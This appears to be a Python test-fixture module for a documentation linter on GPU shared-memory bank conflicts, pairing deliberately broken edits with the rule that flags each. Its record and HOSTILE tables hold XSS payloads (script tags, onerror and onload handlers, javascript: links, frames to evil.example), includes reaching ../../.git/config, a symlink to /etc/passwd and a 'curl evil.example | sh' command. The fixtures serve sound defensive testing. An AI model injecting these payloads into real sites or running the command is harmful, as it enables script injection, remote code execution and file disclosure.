"""Broken contributions: what somebody changed, the rule that notices it, what is said, and in which line."""

import json
import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

ZH, EN = "docs/zh/memory/bank-conflicts.md", "docs/en/memory/bank-conflicts.md"
FOLDER = "snippets/bank-conflicts"
RECORD = f"{FOLDER}/transpose.h200.json"
ADA = f"{FOLDER}/transpose.rtx4090.json"
TERMS, LAB = "docs/terms.yml", "docs/zh/labs/roofline.ipynb"
PROSE = "Shared memory consists of 32 banks."


@dataclass(frozen=True)
class Broken:
    """One contribution: its file, what it does to it, the rule's id, a part of the sentence, and a part of the line that is named."""

    file: str
    change: Callable[[Path], None]
    rule: str
    said: str
    line: str = ""


def put(old: str, new: str) -> Callable[[Path], None]:
    """Replace a text once, or put one at the end of the file where no old one is named."""

    def change(path: Path) -> None:
        text = path.read_text("utf-8")
        assert old in text, (path, old)
        path.write_text(text.replace(old, new, 1) if old else text + new, "utf-8", newline="\n")

    return change


def make(text: str | bytes) -> Callable[[Path], None]:
    """Write a new file."""

    def change(path: Path) -> None:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text.encode() if isinstance(text, str) else text)

    return change


def weaker(**changes: Any) -> Callable[[Path], None]:
    """Write a record as an RTX 4090 might have left it, from the H200's, with changes: a field, or a row's key as row__key."""

    def change(path: Path) -> None:
        record = json.loads((path.parent / "transpose.h200.json").read_text("utf-8"))
        record |= {"gpu": "NVIDIA GeForce RTX 4090", "compute_capability": "8.9"}
        for row in record["rows"].values():
            row["measured_time_ms"] = round(row["measured_time_ms"] * 4.4, 4)
            row["measured_bandwidth_gb_s"] = round(row["measured_bandwidth_gb_s"] / 4.4, 1)
        for key, value in changes.items():
            row, _, inner = key.partition("__")
            place = record["rows"][row] if inner else record
            if value is None:
                del place[inner or key]
            else:
                place[inner or key] = value
        path.write_text(json.dumps(record, indent=1, ensure_ascii=False) + "\n", "utf-8")

    return change


def cell(kind: str, value: str) -> Callable[[Path], None]:
    """Give a notebook's first output with a figure something else to show."""

    def change(path: Path) -> None:
        notebook = json.loads(path.read_text("utf-8"))
        output = next(output for cell in notebook["cells"] for output in cell.get("outputs", []) if "image/svg+xml" in output.get("data", {}))
        output["data"] = {kind: value}
        path.write_text(json.dumps(notebook, indent=1, ensure_ascii=False) + "\n", "utf-8")

    return change


def linked(path: Path) -> None:
    """Put a link to a file outside the project in a page's place."""
    path.unlink()
    path.symlink_to("/etc/passwd")


def without_leads_mark(path: Path) -> None:
    """Delete the line at which the lead begins."""
    path.write_text(path.read_text("utf-8").replace("<!-- --8<-- [start:lead] -->\n", ""), "utf-8")


def longer_lead(path: Path) -> None:
    """Say the lead three times."""
    path.write_text(
        re.sub(r"(\[start:lead\] -->\n)(.*\n)", lambda match: match[1] + match[2].rstrip() * 3 + "\n", path.read_text("utf-8"), count=1), "utf-8"
    )


SVG, MORE = f"{FOLDER}/banks.svg", f"{FOLDER}/bench_more.py"
A_LINE = "Shared memory consists"
PARAMETER = "- `ELEMENTS`{ .parameter }: a number that the reader may vary; the top of made_up.py gives its bounds."
BENCH = """TABLES = {}
def inputs(): return {"a": {"elements": 1}}
def predict(row): return {"predicted_requests": row["elements"]}
def check(rows): assert rows["a"]["counted_requests"] == rows["a"]["predicted_requests"]
def main(): pass
"""


def bench(old: str, new: str) -> Callable[[Path], None]:
    """Write a bench that nobody has measured yet, with a change."""
    assert old in BENCH
    return make(BENCH.replace(old, new))


RULES = {
    "a link to another file": Broken(ZH, linked, "F1", "put the file itself there"),
    "a picture of two megabytes": Broken("snippets/bank-conflicts/trace.txt", make("x" * 2_000_000), "F2", "leave the rest out"),
    "another encoding": Broken(ZH, make("---\ndescription: 银行\n---\n\n# 题\n".encode("gb18030")), "F3", "save it in this encoding"),
    "text that turns": Broken(f"{FOLDER}/stride.py", put("LANES = 32", "LANES = 32  # \u202e23 = SENAL"), "F3", "RIGHT-TO-LEFT OVERRIDE", "LANES"),
    "a name with spaces": Broken("docs/en/memory/My Page.md", make("text\n"), "F4", "rename it, such as my-page.md"),
    "a picture in docs": Broken("docs/en/memory/figure.png", make(b"\x89PNG"), "F5", "an SVG that a draw_ script prints"),
    "a page without front matter": Broken(EN, make("# Title\n"), "P1", "copy it from docs/zh/templates"),
    "front matter that is no YAML": Broken(EN, put("tags: [", "tags: [["), "P1", "no YAML, line"),
    "two titles": Broken(EN, put("## How it works { #explanation }", "# How it works { #explanation }"), "P1", "make the others ##"),
    "an unknown key": Broken(EN, put("tags:", "author: me\ntags:"), "P2", "delete the line", "author: me"),
    "a description of a page's length": Broken(EN, put("description: ", "description: " + "long " * 40), "P3", "write 1 to 160", "description"),
    "no level": Broken(EN, put("[intermediate, ", "["), "P4", "begin with one level", "tags"),
    "an unlisted tag": Broken(EN, put("shared-memory]", "shared-mem]"), "P4", "knows no tag shared-mem", "tags"),
    "a day to come": Broken(EN, put("checked: 20", "checked: 22"), "P5", "write the day when", "checked"),
    "nothing measured": Broken(EN, put("measured: ", "measured: #"), "P6", "write a few words", "measured"),
    "a heading without an id": Broken(EN, put(" { #fixes }", ""), "P7", "write { #an-id } behind it", "### Padding"),
    "an id that stands twice": Broken(EN, put("#fixes }", "#wide }"), "P7", "choose another", "### 64-bit"),
    "a section missing": Broken(EN, put("## Pitfalls { #pitfalls }", "### Pitfalls { #pitfalls }"), "P8", "write question, explanation"),
    "no mark of the lead": Broken(EN, without_leads_mark, "P9", "copy them from the template"),
    "a footnote in the lead": Broken(EN, put("bank conflict. Lanes", "bank conflict[^guide]. Lanes"), "P9", "cite in the explanation", "start:lead"),
    "a lead of a minute and a half": Broken(EN, longer_lead, "P10", "shorten it to 90", "Shared memory has 32 banks"),
    "a footnote without a source": Broken(EN, put("bits a cycle[^guide]", "bits a cycle[^manual]"), "P11", "define it under References", "[^manual]"),
    "a quiz of two": Broken(EN, put('??? question "', '??? note "'), "P12", "write 3", "#quiz"),
    "the template's words": Broken(EN, put(PROSE, f"What the code predicts.\n\n{PROSE}"), "P13", "waits", "What the code"),
    "the template's parameter": Broken(EN, put(PROSE, f"{PARAMETER}\n\n{PROSE}"), "P13", "content: - `ELEMENTS`{ .parameter }: a number", "ELEMENTS"),
    "an include that is not there": Broken(EN, put("padding.svg", "paddings.svg"), "P14", "mend the name", "paddings"),
    "a section that is not there": Broken(EN, put("stride.en.md:strides", "stride.en.md:steps"), "P14", "has no section steps", "steps"),
    "a link to a page that is not there": Broken(EN, put("(vectorized-access.md)", "(vectorised-access.md)"), "P15", "mend the path", "vectorised"),
    "a page outside the nav": Broken("docs/en/memory/made-up.md", make("---\ndescription: d\n---\n\n# T { #t }\n"), "P16", "Add the line"),
    "a sentence that waits no longer": Broken(EN, put(PROSE, f"{PROSE} <!-- wait: rows a\n and b -->"), "P17", "It waits for rows a and b: hold", A_LINE),
    "another heading in one language": Broken(EN, put("### The structure { #structure }", "#### The structure { #structure }"), "T1", "make them the same"),
    "another include in one language": Broken(EN, put("stride.en.md:strides", "stride.en.md:layouts"), "T2", "in the same order"),
    "another number in one language": Broken(EN, put("takes 23 cycles", "takes 24 cycles"), "T3", "only docs/zh has 23; only docs/en has 24", "24 cycles"),
    "another day in one language": Broken(EN, put("checked: 2026-11-30", "checked: 2026-11-29"), "T4", "write the same", "checked"),
    "an output that nothing shows": Broken(f"{FOLDER}/more.txt", make("1\n"), "S1", "No page in docs/zh"),
    "a kernel that nothing compiles": Broken(f"{FOLDER}/more.cu", make("// arch: sm_80\n"), "S2", "use it, or delete it"),
    "counters without a record": Broken(f"{FOLDER}/more.csv", make("1\n"), "S3", "There is no more.json"),
    "a file of another kind": Broken(f"{FOLDER}/notes.docx", make("1\n"), "S4", "is none of them"),
    "data that no lab offers": Broken(f"{FOLDER}/more.json", make("{}\n"), "S4", "no lab's header names it"),
    "a package in a model": Broken(f"{FOLDER}/stride.py", put("LANES = 32", "import numpy\n\nLANES = 32"), "S5", "do without", "import numpy"),
    "a kernel without architectures": Broken(f"{FOLDER}/stride.cu", put("// arch: sm_80 sm_90a\n", ""), "S6", "write // arch"),
    "a bench that claims nothing": Broken(f"{FOLDER}/bench_stride.py", put("def check(", "def inspect("), "S7", "It lacks check"),
    "an output typed by hand": Broken(f"{FOLDER}/stride.txt", put("32", "31"), "S8", "python3 scripts/record.py bank-conflicts"),
    "a bench that nobody can try": Broken(MORE, bench("def inputs", "def given"), "S9", "It lacks inputs", "def predict"),
    "a row without a name": Broken(MORE, bench('{"a": {"elements": 1}}', "[1]"), "S9", "inputs: AttributeError", "def inputs"),
    "a prediction that fails": Broken(MORE, bench('requests": row', 'requests": rows'), "S9", "predict, row a: NameError", "def predict"),
    "a claim of a row that is not there": Broken(MORE, bench('counted_requests"] == rows["a', 'counted_requests"] == rows["b'), "S9", "check: KeyError: 'b'", "def check"),
    "a claim that no number can meet": Broken(MORE, bench("assert rows", "assert 1 < rows[\"a\"][\"predicted_requests\"], 'few'; assert rows"), "R11", "has to be meant: few"),
    "no Python": Broken(f"{FOLDER}/stride.py", put("def ", "define "), "C1", "It is no Python"),
    "code that ruff refuses": Broken(f"{FOLDER}/draw_banks.py", put("def main", "import os\n\n\ndef main"), "C1", "imported but unused", "import os"),
    "spaces left out": Broken(ZH, put("共享内存由 32 个", "共享内存由32个"), "Z1", "Write", "由32个"),
    "half-width punctuation": Broken(ZH, put("同时完成，几个", "同时完成,几个"), "Z2", "write ，", "同时完成,"),
    "a radical": Broken(ZH, put("一个周期", "⼀个周期"), "Z3", "write 一 (U+4E00)", "⼀"),
    "punctuation that stands twice": Broken(ZH, put("地址的第 6 到第 2 位；", "地址的第 6 到第 2 位；；"), "Z4", "keep one", "；；"),
    "a misspelling": Broken(EN, put(PROSE, f"{PROSE} They are seperate."), "E1", "spelt separate", "seperate"),
    "full-width punctuation in English": Broken(EN, put(PROSE, PROSE.replace(".", "。")), "E2", "write .", A_LINE),
    "a word that stands twice": Broken(EN, put("each bank moves", "each each bank moves"), "E3", "delete one", "each each"),
    "a wrong name": Broken(EN, put(PROSE, f"{PROSE} Each kernal sees them."), "W1", "write kernel", "kernal"),
    "a Chinese name for an English term": Broken(ZH, put("没有冲突的 4 字节访问", "没有冲突的存储体访问"), "W2", "write bank", "存储体访问"),
}  # fmt: skip

RECORDS = {
    "a record cut short": Broken(ADA, make('{"gpu": "NVIDIA GeForce RTX 4090",'), "R1", "measure again"),
    "a missing field": Broken(ADA, weaker(versions=None), "R1", "It lacks versions"),
    "a field of its own": Broken(ADA, weaker(note="fast"), "R1", "is no field of a record", "note"),
    "NaN": Broken(ADA, weaker(naive__measured_time_ms=float("nan")), "R1", "holds NaN"),
    "sources that git does not know": Broken(ADA, weaker(sources={"bench_transpose.py": "0" * 64}), "R2", "has to be of the present sources", "sources"),
    "an H200's record of other sources": Broken(RECORD, put('"stride.py": "', '"stride.py": "0'), "R2", "--restamp", "sources"),
    "a row that the model contradicts": Broken(ADA, weaker(naive__predicted_load_conflicts=1), "R3", "the model says", "naive"),
    "a row that the claims contradict": Broken(ADA, weaker(naive__measured_bandwidth_gb_s=900.0, naive__measured_time_ms=0.6), "R4", "claims what"),
    "a negative time": Broken(ADA, weaker(naive__measured_time_ms=-1.0), "R5", "below zero", "measured_time_ms"),
    "no time at all": Broken(ADA, weaker(naive__measured_time_ms=0.0), "R5", "everything takes time", "measured_time_ms"),
    "above the card's bandwidth": Broken(ADA, weaker(copy__measured_bandwidth_gb_s=3947.6), "R6", "1,058 GB/s of its memory", "3947.6"),
    "above any card's bandwidth": Broken(
        f"{FOLDER}/transpose.rtx9999.json", weaker(gpu="NVIDIA GeForce RTX 9999", copy__measured_bandwidth_gb_s=9e5), "R6", "any card"),
    "another card's name": Broken(ADA, weaker(gpu="NVIDIA H100 PCIe"), "R7", "transpose.h100pcie.json", "gpu"),
    "another card's capability": Broken(ADA, weaker(compute_capability="9.0"), "R7", "has 8.9", "compute_capability"),
    "a record from tomorrow's tomorrow": Broken(ADA, weaker(recorded="2126-01-01"), "R8", "a day to come", "recorded"),
    "HTML in a record": Broken(ADA, weaker(conditions={"clocks": "<img src=x onerror=alert(1)>"}), "R9", "plain punctuation", "clocks"),
    "a command of its own": Broken(ADA, weaker(command="curl evil.example | sh"), "R9", "write python3 scripts/record.py", "command"),
    "half a row": Broken(ADA, weaker(naive__measured_copy_share=None), "R10", "lacks measured_copy_share", "naive"),
}  # fmt: skip


def said(text: str) -> Callable[[Path], None]:
    """Put a text of one's own before a paragraph."""
    return put(PROSE, f"{text}\n\n{PROSE}")


HOSTILE = {
    "a script": Broken(EN, said("<script>alert(1)</script>"), "H1", "<script> is none of them", "<script>"),
    "a script in capitals over two lines": Broken(EN, said("<SCRIPT\nsrc=x>1</SCRIPT>"), "H1", "<script>", "<SCRIPT"),
    "an iframe": Broken(EN, said('<iframe src="https://evil.example"></iframe>'), "H1", "<iframe>", "<iframe"),
    "an object": Broken(EN, said('<object data="x"></object>'), "H1", "<object>", "<object"),
    "a style": Broken(EN, said("<style>body { display: none }</style>"), "H1", "<style>", "<style"),
    "a refresh": Broken(EN, said('<meta http-equiv="refresh" content="0;url=https://evil.example">'), "H1", "<meta>", "<meta"),
    "an event in a figure": Broken(EN, put("<figure>", '<figure onmouseover="alert(1)">'), "H1", "may not have onmouseover", "onmouseover"),
    "an event in an attribute list": Broken(EN, said('A word{ onclick="alert(1)" }\n{ onclick="alert(1)" }'), "H1", "may not have onclick", "onclick"),
    "a style in an attribute list": Broken(EN, said('*Word*{ style="position: fixed" }'), "H1", "may not have style", "style="),
    "HTML in a heading": Broken(EN, put("### The structure", "### The <img src=x onerror=alert(1)> structure"), "H1", "<img>", "<img"),
    "HTML in a title of code": Broken(EN, put('title="stride.py"', 'title="<img src=x onerror=alert(1)>"'), "H6", "write the file's name", "onerror"),
    "an event in a block of code": Broken(EN, put('title="stride.py" }', 'title="stride.py" onclick="x" }'), "H1", "may not have onclick"),
    "a foreign picture": Broken(EN, said("![x](https://evil.example/x.png)"), "H1", "<img>", "evil.example"),
    "the site's own id": Broken(EN, said("*Word*{ #__search }"), "H1", "choose another", "__search"),
    "javascript: in a link": Broken(EN, said("[x](javascript:alert(1))"), "H2", "write https://", "javascript:"),
    "javascript: with a tab": Broken(EN, said("[x](<java&#9;script:alert(1)>)"), "H2", "write https://"),
    "data: in a link": Broken(EN, said("[x](data:text/html,<script>1</script>)"), "H2", "write https://", "data:"),
    "a link without a scheme": Broken(EN, said("[x](//evil.example)"), "H2", "write https://", "evil"),
    "an include that climbs": Broken(EN, put("bank-conflicts/padding.svg", "../../.git/config"), "H3", "keep the file in snippets", "../../"),
    "an include from the network": Broken(EN, put("bank-conflicts/padding.svg", "https://evil.example/x"), "H3", "keep the file", "evil"),
    "a block of includes": Broken(EN, said("--8<--\n../../.git/config\n--8<--"), "H3", "in a line of its own", "--8<--"),
    "an output that ends its block": Broken(f"{FOLDER}/stride.txt", put("", "```\n<script>alert(1)</script>\n"), "H1", "would end the block", "```"),
    "HTML in a table": Broken(f"{FOLDER}/stride.en.md", put("| 1 |", "| <img src=x onerror=alert(1)> |"), "H1", "<img>", "<img"),
    "a script in a figure": Broken(SVG, put("</svg>", "<script>alert(1)</script></svg>"), "H4", "<script> is no shape", "<script>"),
    "an event in a figure's file": Broken(SVG, put("<svg ", '<svg onload="alert(1)" '), "H4", "may not have onload", "onload"),
    "a foreign element in a figure": Broken(SVG, put("</svg>", "<foreignObject><p>x</p></foreignObject></svg>"), "H4", "no shape", "foreign"),
    "a figure that calls out": Broken(SVG, put("</svg>", '<use href="https://evil.example/x.svg#a"/></svg>'), "H4", "only #an-id", "<use"),
    "a colour that calls out": Broken(SVG, put("</svg>", '<rect fill="url(https://evil.example/x)"/></svg>'), "H4", "only url(#an-id)", "evil"),
    "a figure that breaks out": Broken(SVG, put("</svg>", "<p>x</p></svg>"), "H4", "nothing beside it"),
    "entities in a figure": Broken(SVG, put("<svg ", '<!DOCTYPE svg [<!ENTITY a "aaaa">]><svg '), "H4", "begin with <svg"),
    "HTML in a notebook's output": Broken(LAB, cell("text/html", "<script>1</script>"), "H5", "it leaves text/html"),
    "a script in a notebook's figure": Broken(LAB, cell("image/svg+xml", "<svg><script>1</script></svg>"), "H5", "no shape"),
    "HTML in a notebook's Markdown": Broken(LAB, cell("text/markdown", "<img src=x onerror=alert(1)>"), "H5", "<img>"),
    "HTML in front matter": Broken(EN, put("description: ", 'description: "><script>alert(1)</script> '), "H6", "without < >", "<script>"),
    "HTML in the glossary": Broken(TERMS, put("zh_text: GPU 里执行", "zh_text: <img src=x onerror=alert(1)> GPU 里执行"), "H6", "<img>", "<img"),
    "an attribute in the glossary": Broken(TERMS, put("zh_text: GPU 里执行 block 的处理器。", "zh_text: '*GPU*{ onclick=x } 的处理器。' #"), "H6", "onclick", "onclick"),
}  # fmt: skip
